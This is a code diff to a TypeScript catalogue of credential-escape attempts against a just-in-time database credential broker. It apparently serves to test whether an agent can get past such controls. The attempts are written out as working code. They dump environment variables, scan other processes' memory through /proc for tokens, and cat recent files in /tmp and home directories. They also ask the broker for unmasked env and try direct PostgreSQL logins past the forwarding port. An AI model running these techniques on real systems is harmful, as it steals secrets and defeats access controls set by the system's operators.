@@ -16,7 +16,7 @@ const reading: Escape[] = [
     attempt: () => JSON.stringify(process.env),
   },
   {
-    name: 'read it from the memory of the `jit` that asked, and of all others',
+    name: 'read it from the memory of the `jit` that asked',
     gain: 'the credential itself, to use elsewhere',
     plain: true,
     needs: ['python3'],
@@ -26,21 +26,21 @@ const reading: Escape[] = [
         `import re, glob
 found = set()
 for path in glob.glob('/proc/[0-9]*'):
-    pid = path.split('/')[2]
     try:
-        if pid != sys.argv[1] and b'bin/jit.js\0exec' not in open(path + '/cmdline', 'rb').read(): continue
+        words = open(path + '/cmdline', 'rb').read()
+        if path.endswith('/' + os.readlink('/proc/self')) or b'jit.js' not in words or sys.argv[1].encode() not in words: continue
         memory = open(path + '/mem', 'rb', 0)
         for line in open(path + '/maps'):
             span, rights = line.split()[:2]
             if 'rw' not in rights: continue
             start, end = (int(part, 16) for part in span.split('-'))
-            if end - start > 64 << 20: continue
+            if end - start > 16 << 20: continue
             try: memory.seek(start); data = memory.read(end - start)
             except (OSError, ValueError, OverflowError): continue
             found.update(word for word in re.findall(rb'[A-Za-z0-9_-]{43,}', data) if len(word) == 43)
     except OSError: pass
 print(b'\\n'.join(list(found)[:1000]).decode())`,
-        [String(process.ppid)],
+        [process.argv[2] ?? ''],
       ),
   },
   {
@@ -48,7 +48,10 @@ print(b'\\n'.join(list(found)[:1000]).decode())`,
     gain: 'the credential itself, to use elsewhere',
     plain: false,
     proof: 'password',
-    attempt: () => shell('find /tmp /run ~ -xdev -type f -size -64k -newermt "-1 hour" -exec cat {} + 2>/dev/null | head -c 2000000'),
+    attempt: () =>
+      shell(
+        'find /tmp /run ~ -xdev -type f -size -64k -newermt "-1 hour" -exec cat {} + 2>/dev/null | head -c 2000000',
+      ),
   },
   {
     name: 'read it from the command lines of what forwards the connections',
@@ -66,8 +69,20 @@ const asking: Escape[] = [
     plain: false,
     proof: 'password',
     attempt: async () => {
-      const { jit } = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as { jit: [string, string] }
-      const words = ['exec', '--env', 'dev', '--task', 'plan', '--target', 'dev-db', '--deliver', 'env']
+      const { jit } = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as {
+        jit: [string, string]
+      }
+      const words = [
+        'exec',
+        '--env',
+        'dev',
+        '--task',
+        'plan',
+        '--target',
+        'dev-db',
+        '--deliver',
+        'env',
+      ]
       return (await run(jit[0], [jit[1], ...words, '--mask', 'never', '--', 'env'])).output
     },
   },
@@ -102,7 +117,7 @@ const asking: Escape[] = [
 
 /** A startup packet of protocol 3.0 (PostgreSQL, section 55.7). */
 function startup(parameters: Readonly<Record<string, string>>): Buffer {
-  const text = Object.entries(parameters).flatMap(([name, value]) => [name, value])
+  const text = Object.entries(parameters).flat()
   const body = Buffer.from(`${text.join('\0')}\0\0`)
   const head = Buffer.alloc(8)
   head.writeUInt32BE(body.length + 8)
@@ -137,7 +152,9 @@ const protocol: Escape[] = [
       ]
       const answers = await Promise.all(
         tries.map(async (one) => {
-          const answer = await speak({ ...port(), say: startup(one), patience: 1_500 }).catch(() => '')
+          const answer = await speak({ ...port(), say: startup(one), patience: 1_500 }).catch(
+            () => '',
+          )
           return answer.includes(SIGNED_IN) ? JSON.stringify(one) : ''
         }),
       )
@@ -170,12 +187,14 @@ const protocol: Escape[] = [
     },
   },
   {
-    name: "reach the database past the port, by its own address",
+    name: 'reach the database past the port, by its own address',
     gain: 'sessions that nobody ends',
     plain: false,
     proof: 'claim',
     attempt: async () => {
-      const { databasePort } = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as { databasePort: number }
+      const { databasePort } = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as {
+        databasePort: number
+      }
       return speak({ port: databasePort, say: Buffer.of(0, 0, 0, 8, 4, 210, 22, 47) })
     },
   },
